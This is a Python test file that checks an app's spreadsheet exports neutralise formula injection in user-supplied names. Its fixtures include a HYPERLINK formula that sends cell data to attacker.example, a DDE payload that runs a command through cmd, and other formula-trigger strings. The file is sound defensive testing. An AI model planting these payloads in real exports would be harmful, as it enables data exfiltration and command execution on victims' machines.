"""Formula injection (issue 13, item 10): user text never becomes a live formula in an export."""

from __future__ import annotations

import datetime as dt
import zipfile

import pandas as pd
from openpyxl import load_workbook
from small_scenarios import finance_baseline, finance_county, finance_plan

from sufficiency_app.infra.formula_guard import csv_text, guard_frame
from sufficiency_app.projection.statutory import write_statutory
from sufficiency_app.report import content
from sufficiency_app.report.xlsx import write_xlsx

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")


def sheets_xml(path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]


def test_the_report_workbook_never_holds_a_live_formula(tmp_path):
    scenario = finance_county()
    scenario = scenario.replace(
        parameters=scenario.parameters.replace(name=DDE),
        provisions=scenario.provisions.assign(name=HYPERLINK),
        options=scenario.options.assign(name=DDE),
        areas=scenario.areas.assign(name=["+1+1", "-2+3", "@SUM(A1:A9)"]),
    )
    report = content.build([content.Run(scenario, finance_plan(), finance_baseline())], "lt5", dt.date(2026, 11, 23))
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    assert not any("<f>" in sheet for sheet in sheets_xml(path))
    wb = load_workbook(path)
    hostile = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in hostile} >= {HYPERLINK, DDE, "+1+1"}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_statutory_exports_guard_area_names(tmp_path):
    scap = pd.DataFrame({"planning_area": [DDE, "North"], "provision_type": ["special"] * 2, "ncy": [1, 2],
                         "year": [2025, 2025], "places": [3.0, 4.0]})
    dsg = pd.DataFrame({"age_group": ["Under 5"], "setting": [HYPERLINK], "year": [2025], "count": [2.0]})
    files = write_statutory(scap, dsg, tmp_path / "returns.csv")
    text = files[0].read_text() + files[1].read_text()
    assert "'=cmd" in text and "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    book = write_statutory(scap, dsg, tmp_path / "returns.xlsx")[0]
    assert not any("<f>" in sheet for sheet in sheets_xml(book))


def test_csv_guard_leaves_ordinary_text_and_numbers_alone():
    frame = pd.DataFrame({"name": ["North", DDE, *OTHERS], "count": [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
    guarded = guard_frame(frame)
    assert guarded["name"].tolist() == ["North"] + ["'" + v for v in (DDE, *OTHERS)]
    assert guarded["count"].tolist() == frame["count"].tolist()
    assert csv_text(-5) == -5 and csv_text("Total") == "Total"
